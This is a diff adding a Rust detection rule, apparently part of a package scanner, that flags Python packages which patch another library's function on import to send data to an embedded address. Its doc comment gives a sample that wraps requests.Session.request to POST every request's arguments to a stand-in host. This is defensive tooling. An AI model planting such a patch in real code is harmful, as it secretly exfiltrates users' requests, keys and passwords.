@@ -1,0 +1,65 @@
+//! ## What it detects
+//!
+//! A function of another library that is replaced, on import, by one which sends something to an address of its own.
+//!
+//! ## Why it is bad
+//!
+//! Every program that uses the library reports to the address then: its requests, keys and passwords.
+//!
+//! ## Innocent lookalikes
+//!
+//! Instrumentation replaces functions too; it hands what it sees to a client that the user has configured, and carries no address.
+//!
+//! ## Bad
+//!
+//! ```python x/__init__.py
+//! import requests
+//! send = requests.Session.request
+//! def request(self, method, url, **given):
+//!     send(self, 'POST', 'http://x.example.invalid/', json=given)
+//!     return send(self, method, url, **given)
+//! requests.Session.request = request
+//! ```
+//!
+//! ## Good
+//!
+//! ```python x/__init__.py
+//! import requests
+//! send = requests.Session.request
+//! def request(self, method, url, **given):
+//!     print(method, url)
+//!     return send(self, method, url, **given)
+//! requests.Session.request = request
+//! ```
+
+use fondaco_python::{Api, Call};
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
+
+use crate::{Hits, Package, Rule};
+
+pub(crate) const RULE: Rule = Rule {
+    id: RuleId::new("patched-library"),
+    title: "replaces a function of another library by one that reports",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    behaviour: Some(Behaviour::Exfiltration),
+    weight: 1.8,
+    check,
+};
+
+fn check(package: &Package<'_>, hits: &mut Hits) {
+    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Patch)) {
+        let replacement = call.args.first().and_then(|function| function.name.as_deref()).unwrap_or_default();
+        let reports = |sent: &&Call| {
+            let acts = matches!(sent.api, Some(Api::NetworkSend | Api::NetworkFetch));
+            acts && &*sent.function == replacement && sent.texts().iter().any(|text| is_address(text))
+        };
+        if call.trigger.is_some_and(Trigger::is_unasked) && unit.calls.iter().any(|sent| reports(&sent)) {
+            hits.call(unit, call, format!("{} is replaced by what reports", call.callee));
+        }
+    }
+}
+
+fn is_address(text: &str) -> bool {
+    text.starts_with("http://") || text.starts_with("https://")
+}
